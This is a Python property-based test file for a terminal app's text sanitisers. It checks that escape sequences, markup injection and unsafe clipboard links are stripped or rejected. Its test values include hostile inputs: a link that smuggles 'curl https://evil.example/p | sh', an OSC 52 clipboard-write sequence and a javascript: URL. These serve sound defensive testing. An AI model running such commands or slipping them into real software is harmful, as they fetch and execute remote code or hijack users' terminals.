"""Any string through the safe-text path leaves no control sequence and no markup.

Checked on the three outlets: `one_line`/`strip_controls` (cards, CLI), `plain` (tui widgets,
drawn through Textual's Content) and `cli_output.clean` (plain CLI lines), plus the clipboard
guard `copyable_link`.
"""

from __future__ import annotations

import unicodedata

from hypothesis import given, settings
from hypothesis import strategies as st
from textual.content import Content

from pylon_tui.cli.output import clean
from pylon_tui.domain.safe_text import copyable_link, one_line, strip_controls
from pylon_tui.tui.safe import plain, plain_message
from tests.hostile import HOSTILE

PIECES = st.sampled_from(
    [
        "\x1b[",
        "\x1b]",
        "\x1b]52;c;",
        "\x07",
        "\x1b\\",
        "\x9b",
        "\x9d",
        "\x90",
        "\x9c",
        "\x1bP",
        "[",
        "]",
        "[/]",
        "[@click=app.quit]",
        "[link=",
        "\n",
        "\r",
        "\t",
        "\u202e",
        "\u200b",
        "31m",
        "2J",
        ";",
        "https://",
    ]
)
HOSTILE_TEXT = st.lists(st.one_of(PIECES, st.text(max_size=6), st.sampled_from(HOSTILE))).map(
    "".join
)
ANY_TEXT = st.one_of(st.text(), HOSTILE_TEXT)


def no_terminal_controls(text: str, *, newlines: bool = False) -> bool:
    for char in text:
        if char == "\n" and newlines:
            continue
        if unicodedata.category(char) in ("Cc", "Cf", "Cs"):
            return False
    return "\x1b" not in text


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT)
def test_one_line_is_one_line_without_controls(text: str) -> None:
    line = one_line(text)
    assert "\n" not in line
    assert no_terminal_controls(line)
    assert line == line.strip()


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT)
def test_strip_controls_keeps_only_newlines_when_asked(text: str) -> None:
    assert no_terminal_controls(strip_controls(text))
    assert no_terminal_controls(strip_controls(text, keep_newlines=True), newlines=True)
    assert no_terminal_controls(clean(text), newlines=True)
    assert no_terminal_controls(plain_message(text), newlines=True)


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT, st.sampled_from(["", "bold", "red", "dim italic"]))
def test_plain_is_drawn_literally_by_textual(text: str, style: str) -> None:
    rendered = plain(text, style)
    assert rendered.plain == one_line(text)
    assert all(span.start == 0 and span.end == len(rendered) for span in rendered.spans)
    content = Content.from_rich_text(rendered)
    assert content.plain == one_line(text)  # brackets and all: nothing parsed away
    assert not any("@click" in str(span.style) for span in content.spans)


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT)
def test_copyable_link_is_one_plain_http_url_or_nothing(text: str) -> None:
    link = copyable_link(text)
    if link is None:
        return
    assert link == text
    assert link.lower().startswith(("http://", "https://"))
    assert not any(char.isspace() for char in link)
    assert no_terminal_controls(link)


def test_copyable_link_examples() -> None:
    assert copyable_link("https://app.usepylon.com/issues?issueNumber=4") is not None
    assert copyable_link("https://app.usepylon.com/x\n curl https://evil.example/p | sh") is None
    assert copyable_link("javascript:alert(1)") is None
    assert copyable_link("https://user:pw@evil.example/") is None
    assert copyable_link("https://a.example/\x1b]52;c;eA==\x07") is None
    assert copyable_link("") is None
    assert copyable_link(None) is None
